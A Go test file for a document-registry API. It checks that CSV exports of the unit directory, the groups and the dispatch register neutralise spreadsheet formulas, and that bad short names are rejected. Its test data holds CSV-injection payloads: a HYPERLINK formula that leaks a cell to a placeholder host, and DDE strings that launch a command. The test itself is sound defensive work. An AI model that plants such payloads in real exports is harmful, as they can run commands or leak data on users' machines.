package httpapi_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"vanthu/directory"
	"vanthu/internal/apptest"
)

// Cells a spreadsheet would run as formulas, as the issue found them typed.
var formulaCells = []string{
	`=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(A1:A9)`,
	`-2+3+cmd|' /C calc'!A0`,
}

// readCSV parses a CSV the API wrote (after its BOM) and checks no cell of it begins with a
// character that makes a spreadsheet read it as a formula.
func readCSV(t *testing.T, what string, body []byte) [][]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatalf("%s is not CSV: %v\n%s", what, err, apptest.Excerpt(body))
	}
	for i, rec := range recs {
		for j, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s line %d column %d begins with a formula character: %q", what, i+1, j+1, cell)
			}
		}
	}
	return recs
}

// TestCSVFormulasNeutralised puts formula-like text into the directory and the register and
// checks that every CSV the API writes shows it as text (an apostrophe before it), that the
// units CSV imports back unchanged, and that a short name that is not a symbol part is
// refused.
func TestCSVFormulasNeutralised(t *testing.T) {
	data := apptest.LoadData(t)
	for _, b := range apptest.Backends() {
		t.Run(b.Name, func(t *testing.T) {
			b.SkipIfUnavailable(t)
			a := apptest.Start(t, data, b.DSN(t))

			// The directory: a new unit whose every free-text cell is a formula.
			units := append(a.Demo.Units(), directory.Unit{ID: "to-cong-thuc", ParentID: "tinh-thanh-hoa",
				Kind: directory.Agency, Name: formulaCells[0], ShortName: "TCT", Label: formulaCells[1],
				HeadTitle: formulaCells[2], Place: formulaCells[3]})
			groups := []directory.Group{{ID: "nhom-cong-thuc", Name: formulaCells[2], Members: []string{"to-cong-thuc"}}}
			var ub, gb bytes.Buffer
			if err := directory.WriteCSV(&ub, units); err != nil {
				t.Fatal(err)
			}
			if err := directory.WriteGroupsCSV(&gb, groups); err != nil {
				t.Fatal(err)
			}
			for _, put := range []struct {
				path string
				body []byte
			}{{"/api/directory/units.csv", ub.Bytes()}, {"/api/directory/groups.csv", gb.Bytes()}} { // units first: the group names a new unit
				if res := a.Do(t, "PUT", put.path, bytes.NewReader(put.body), "Content-Type", "text/csv"); res.Status != http.StatusOK {
					t.Fatalf("PUT %s: %d %s", put.path, res.Status, apptest.Excerpt(res.Body))
				}
			}
			checkFormulaUnit(t, a)
			exported := map[string][]byte{}
			for _, path := range []string{"/api/directory/units.csv", "/api/directory/groups.csv"} {
				res := a.Do(t, "GET", path, nil)
				recs := readCSV(t, path, res.Body)
				if !csvHas(recs, "'"+formulaCells[2]) {
					t.Errorf("%s does not hold %q", path, "'"+formulaCells[2])
				}
				exported[path] = res.Body
			}
			// The export imports back unchanged: the apostrophes are taken off again.
			for _, path := range []string{"/api/directory/units.csv", "/api/directory/groups.csv"} {
				body := exported[path]
				if res := a.Do(t, "PUT", path, bytes.NewReader(body), "Content-Type", "text/csv"); res.Status != http.StatusOK {
					t.Fatalf("PUT %s again: %d %s", path, res.Status, apptest.Excerpt(res.Body))
				}
				if res := a.Do(t, "GET", path, nil); !bytes.Equal(res.Body, body) {
					t.Errorf("%s changed in a round trip:\n%s\n----\n%s", path, apptest.Excerpt(body), apptest.Excerpt(res.Body))
				}
			}
			checkFormulaUnit(t, a)

			// The register: a dispatch whose signer and recipients are formulas.
			body := edit(t, issueBody(t, 1), func(m map[string]any) {
				submissionData(m)["ho_ten_nguoi_ky"] = formulaCells[0]
				m["recipients"] = map[string]any{"kinh_gui": []string{formulaCells[1]}, "noi_nhan": []string{formulaCells[2], formulaCells[3]}, "archive": "VT, NC (3)"}
			})
			createDocument(t, a, body, true)
			res := a.Do(t, "GET", "/api/register.csv?issuer="+seedIssuer, nil)
			recs := readCSV(t, "register.csv", res.Body)
			if len(recs) != 2 {
				t.Fatalf("register.csv has %d lines, want the header and 1", len(recs))
			}
			if !csvHas(recs, "'"+formulaCells[0]) {
				t.Errorf("register.csv does not show the signer %q as text: %q", formulaCells[0], recs[1])
			}

			// A short name goes into document numbers: it must be a symbol part.
			for _, bad := range []string{"-NC", "UBND NC", "ubnd", "UBND/NC", "=1+1", "NC-"} {
				units := append(a.Demo.Units(), directory.Unit{ID: "don-vi-sai", ParentID: "tinh-thanh-hoa",
					Kind: directory.Agency, Name: "Đơn vị thử", ShortName: bad})
				var buf bytes.Buffer
				if err := directory.WriteCSV(&buf, units); err != nil {
					t.Fatal(err)
				}
				res := a.Do(t, "PUT", "/api/directory/units.csv", &buf, "Content-Type", "text/csv")
				if res.Status != http.StatusUnprocessableEntity || !strings.Contains(string(res.Body), "short_name") {
					t.Errorf("short name %q: %d %s, want 422 naming short_name", bad, res.Status, apptest.Excerpt(res.Body))
				}
			}
			if res := a.Do(t, "GET", "/api/units/don-vi-sai", nil); res.Status != http.StatusNotFound {
				t.Errorf("a refused unit is in the directory: %d", res.Status)
			}
		})
	}
}

// checkFormulaUnit checks the unit of formula cells reads back exactly as typed.
func checkFormulaUnit(t *testing.T, a *apptest.App) {
	t.Helper()
	res := a.Do(t, "GET", "/api/units/to-cong-thuc", nil)
	assertJSON(t, res.Body, map[string]any{"/name": formulaCells[0], "/label": formulaCells[1],
		"/head_title": formulaCells[2], "/place": formulaCells[3]})
}

func csvHas(recs [][]string, cell string) bool {
	for _, rec := range recs {
		for _, c := range rec {
			if c == cell {
				return true
			}
		}
	}
	return false
}
